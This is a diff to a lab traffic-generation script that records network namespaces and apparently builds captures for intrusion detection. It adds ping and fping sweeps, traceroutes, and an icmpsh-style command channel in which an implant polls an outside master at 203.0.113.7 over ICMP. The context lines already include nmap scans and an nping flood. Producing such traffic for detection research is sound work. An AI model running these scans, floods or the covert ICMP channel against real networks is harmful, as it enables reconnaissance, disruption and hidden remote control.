@@ -26,8 +26,16 @@
 #   fping_then_nmap_ports  fping -a -g over 10.78.0.32/27, then nmap -sT of admin ports on the
 #                       hosts that answered, 20 s later
 #   flood_nping         nping --icmp --rate 1000 -c 5000 at one server
+#   sweep_ping_loop     iputils ping -c 1 -W 1 to each of 10.78.0.32-63 from a shell loop
+#   sweep_slow_fping    fping, one probe every 3 s, over 10.78.0.48/28 (about 50 s)
+#   sweep6_fping        fping -6 over fd78::20 - fd78::3f
+#   traceroute_many     traceroute -I, traceroute -U and mtr -u -r to three outside and inside hosts
+#   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
+#                       outside master every second, commands come back in echo replies, output
+#                       goes out in echo requests (about 80 s)
 set -uo pipefail
 sc=$1 out=$2
+here=$(cd "$(dirname "$0")" && pwd)
 x() { ip netns exec "$@"; }
 ip netns exec ih_sw tcpdump -q -U -n -i br0 -s 0 -w "$out" 2>/dev/null &
 cap=$!
@@ -86,6 +94,25 @@ case $sc in
     x ih_atk timeout 60 nmap -n -Pn -sT -p 22,135,445,3389,5985 $(head -n 8 /tmp/ih_alive) >/dev/null 2>&1 ;;
   flood_nping)
     x ih_atk timeout 20 nping --icmp --rate 1000 -c 5000 -q 10.78.0.40 >/dev/null 2>&1 ;;
+  sweep_ping_loop)
+    for i in $(seq 32 63); do x ih_atk timeout 2 ping -c 1 -W 1 10.78.0.$i >/dev/null 2>&1; done ;;
+  sweep_slow_fping)
+    x ih_atk timeout 70 fping -q -a -r 0 -i 3000 -p 3000 -g 10.78.0.48/28 >/dev/null 2>&1 ;;
+  sweep6_fping)
+    x ih_atk timeout 30 fping -6 -q -a -r 0 $(for o in $(seq 32 63); do printf 'fd78::%x ' "$o"; done) >/dev/null 2>&1 ;;
+  traceroute_many)
+    x ih_ws2 timeout 30 traceroute -n -I -m 5 203.0.113.7 >/dev/null 2>&1
+    x ih_ws2 timeout 30 traceroute -n -U -m 5 198.51.100.23 >/dev/null 2>&1
+    x ih_ws2 timeout 30 traceroute -n -I -m 5 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 40 mtr -n -u -r -c 5 203.0.113.7 >/dev/null 2>&1 ;;
+  c2_icmpsh_like)
+    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1
+    x ih_ext timeout 100 python3 "$here/icmp_c2.py" master 10.77.0.10 90 &
+    m=$!
+    sleep 0.5
+    x ih_atk timeout 95 python3 "$here/icmp_c2.py" implant 203.0.113.7 85
+    kill "$m" 2>/dev/null; wait "$m" 2>/dev/null
+    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
